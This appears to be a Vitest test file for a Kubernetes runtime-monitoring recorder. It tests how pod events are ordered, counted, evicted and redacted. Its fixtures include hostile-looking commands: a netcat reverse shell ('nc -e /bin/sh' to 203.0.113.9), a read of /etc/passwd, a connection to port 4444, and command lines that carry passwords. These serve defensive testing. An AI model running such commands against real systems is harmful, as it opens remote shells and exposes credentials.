import { expect, test } from 'vitest';
import type { Observation } from '../../baseline/observation.ts';
import { NO_MORE_RULES } from '../outbox/redact.ts';
import { RECORD_TEXT_LENGTH_MAX } from './record.ts';
import { LANE_MAX, PODS_MAX, RECORDS_MAX, Recorder, TEXT_LENGTH_MAX } from './recorder.ts';
import { observation } from './testing/observations.ts';
import { POD_UID } from './testing/fake-node.ts';

const recorderOf = (observations: readonly Observation[], max?: number): Recorder => {
  const recorder = new Recorder(NO_MORE_RULES, max);
  for (const one of observations) recorder.note(one);
  return recorder;
};
const all = (recorder: Recorder) => recorder.of(POD_UID, '', 0n).records;

test('what a pod did is told in the order in which it happened, from the time asked for', () => {
  const recorder = recorderOf([
    observation.exec({ at: 1, commandLine: 'sh -c id' }),
    observation.open({ at: 2, path: '/etc/passwd' }),
    observation.connect({ at: 3, address: '203.0.113.9', port: 4444 }),
    observation.exit({ at: 4, status: 1 }),
  ]);
  expect(all(recorder).map(({ kind, what }) => `${kind} ${what}`)).toEqual([
    'exec sh -c id',
    'open /etc/passwd',
    'connect 203.0.113.9 port 4444',
    'exit status 1',
  ]);
  expect(recorder.of(POD_UID, '', observation.timeNs(3)).records).toHaveLength(2);
  expect(recorder.of('11111111-2222-3333-4444-555555555555', '', 0n).records).toEqual([]);
});

test('what is repeated in a row becomes a count with its first and last time', () => {
  const recorder = recorderOf([1, 2, 3].map((at) => observation.open({ at, path: '/a' })));
  expect(all(recorder)).toMatchObject([{ count: 3 }]);
  expect(all(recorder)[0]?.lastTime).not.toBe(all(recorder)[0]?.time);
  // A repetition counts as new enough, if its last time is.
  expect(recorder.of(POD_UID, '', observation.timeNs(3)).records).toHaveLength(1);
});

test('a flood of files does not push out what else the pod did', () => {
  const recorder = recorderOf([
    observation.exec({ at: 0, commandLine: 'nc -e /bin/sh 203.0.113.9' }),
    ...Array.from({ length: 3 * LANE_MAX }, (_, at) => observation.open({ at, path: `/f${at}` })),
  ]);
  const records = all(recorder);
  expect(records.filter(({ kind }) => kind === 'exec')).toHaveLength(1);
  expect(records.filter(({ kind }) => kind === 'open').map(({ what }) => what))
    .toEqual(Array.from({ length: LANE_MAX }, (_, at) => `/f${at + 2 * LANE_MAX}`));
  expect(recorder.counts()).toMatchObject({ records: LANE_MAX + 1, overwritten: 2 * LANE_MAX });
  expect(recorder.of(POD_UID, '', 0n).overwritten).toBe(2 * LANE_MAX);
});

test('for a pod without its share the one that was quiet for longest goes, and is counted', () => {
  const recorder = recorderOf([], 8);
  for (const [index, podUid] of ['p1', 'p2', 'p3'].entries()) {
    for (let at = 0; at < 4; at += 1) {
      recorder.note(observation.open({ at: 10 * index + at, path: `/${at}`, podUid }));
    }
  }
  const kept = (podUid: string): number => recorder.of(podUid, '', 0n).records.length;
  expect([kept('p1'), kept('p2'), kept('p3')]).toEqual([0, 4, 4]);
  expect(recorder.counts()).toMatchObject({ pods: 2, records: 8, evicted: 4 });
});

test('more busy pods than there is room for share it, and keep their newest', () => {
  const [max, pods, rounds] = [80, 10, 40];
  const recorder = new Recorder(NO_MORE_RULES, max);
  for (let at = 0; at < rounds; at += 1) {
    for (let pod = 0; pod < pods; pod += 1) {
      recorder.note(observation.exec({ at, podUid: `p${pod}`, commandLine: `${at}` }));
    }
  }
  expect(recorder.counts()).toMatchObject({ pods, evicted: 0 });
  for (let pod = 0; pod < pods; pod += 1) {
    const { records } = recorder.of(`p${pod}`, '', 0n);
    expect(records.length).toBeGreaterThanOrEqual(max / pods / 2);
    const kept = records.map(({ what }) => Number(/\d+/.exec(what)?.[0]));
    const newest = Array.from(kept, (_, index) => rounds - kept.length + index);
    expect(kept).toEqual(newest);
  }
});

test('of containers that come and go without end the last ones are kept', () => {
  const recorder = new Recorder(NO_MORE_RULES);
  for (let at = 0; at < PODS_MAX + 10; at += 1) {
    recorder.note(observation.exec({ at, podUid: '', id: `c${at}` }));
  }
  expect(recorder.counts()).toMatchObject({ pods: PODS_MAX, records: PODS_MAX, evicted: 10 });
});

test('the node’s own processes are not kept; a pod without a UID is, under its container', () => {
  const id = 'a1a1a1a1a1a1';
  const recorder = recorderOf([
    observation.exec({ scope: 'host', podUid: '' }),
    observation.exec({ podUid: '', id }),
  ]);
  expect(recorder.counts().pods).toBe(1);
  expect(recorder.of(POD_UID, `${id}${'b'.repeat(52)}`, 0n).records).toHaveLength(1);
});

test('hostile text comes out redacted, bounded and well-formed', () => {
  const hostile = `curl -u bob:hunter2 \ud800 ${'x'.repeat(10_000)}`;
  const recorder = recorderOf([
    observation.exec({ commandLine: hostile }),
    observation.exec({ at: 1, commandLine: 'mysql -psecret1234' }),
    observation.privileged({ at: 2, args: 'password=hunter2' }),
  ]);
  const text = JSON.stringify(all(recorder));
  for (const secret of ['hunter2', 'secret1234']) expect(text).not.toContain(secret);
  for (const { what } of all(recorder)) {
    expect(what.isWellFormed()).toBe(true);
    expect(what.length).toBeLessThanOrEqual(RECORD_TEXT_LENGTH_MAX + 64);
  }
});

test('all kinds are kept in words of their own', () => {
  const recorder = recorderOf([
    observation.accept({ at: 1, peerAddress: '10.0.0.9', peerPort: 5 }),
    observation.listen({ at: 2, address: '0.0.0.0', port: 4444 }),
    observation.change({ at: 3, operation: 'rename', path: '/a', target: '/b' }),
    observation.change({ at: 4, operation: 'unlink', path: '/a' }),
    observation.privileged({ at: 5, syscall: 'ptrace', args: 'pid=1' }),
    observation.rule({ at: 6, rule: 'Terminal shell', commandLine: 'sh' }),
  ]);
  expect(all(recorder).map(({ kind, what, detail }) => [kind, what, detail])).toEqual([
    ['accept', '10.0.0.9 port 5', 'tcp'],
    ['listen', '0.0.0.0 port 4444', 'tcp'],
    ['change', '/a', '/b'],
    ['change', '/a', 'unlink'],
    ['privileged', 'pid=1', 'ptrace'],
    ['rule', 'Terminal shell', 'sh'],
  ]);
});

test('as many pods as a node has keep all of their records', () => {
  const recorder = new Recorder(NO_MORE_RULES);
  const pods = RECORDS_MAX / (2 * LANE_MAX);
  for (let pod = 0; pod < pods; pod += 1) {
    for (let at = 0; at < LANE_MAX; at += 1) {
      const path = `/${pod}/${at}/`.padEnd(200, 'x');
      recorder.note(observation.open({ at, path, podUid: `pod-${pod}` }));
      recorder.note(observation.exec({ at, commandLine: path, podUid: `pod-${pod}` }));
    }
  }
  expect(recorder.counts()).toEqual({ records: RECORDS_MAX, evicted: 0, overwritten: 0, pods });
});

test('texts have a bound of their own: a node full of hostile pods keeps fewer records', () => {
  const recorder = new Recorder(NO_MORE_RULES);
  const long = '\u4e2d'.repeat(RECORD_TEXT_LENGTH_MAX);
  for (let pod = 0; pod < 200; pod += 1) {
    for (let at = 0; at < LANE_MAX; at += 1) {
      const told = { at, podUid: `p${pod}`, exe: long, cwd: long, commandLine: `${at}${long}` };
      recorder.note(observation.exec(told));
    }
  }
  const { records, evicted } = recorder.counts();
  expect(records).toBeLessThanOrEqual(TEXT_LENGTH_MAX / (3 * RECORD_TEXT_LENGTH_MAX));
  expect(records + evicted).toBe(200 * LANE_MAX);
  expect(recorder.of('p199', '', 0n).records).toHaveLength(LANE_MAX);
});
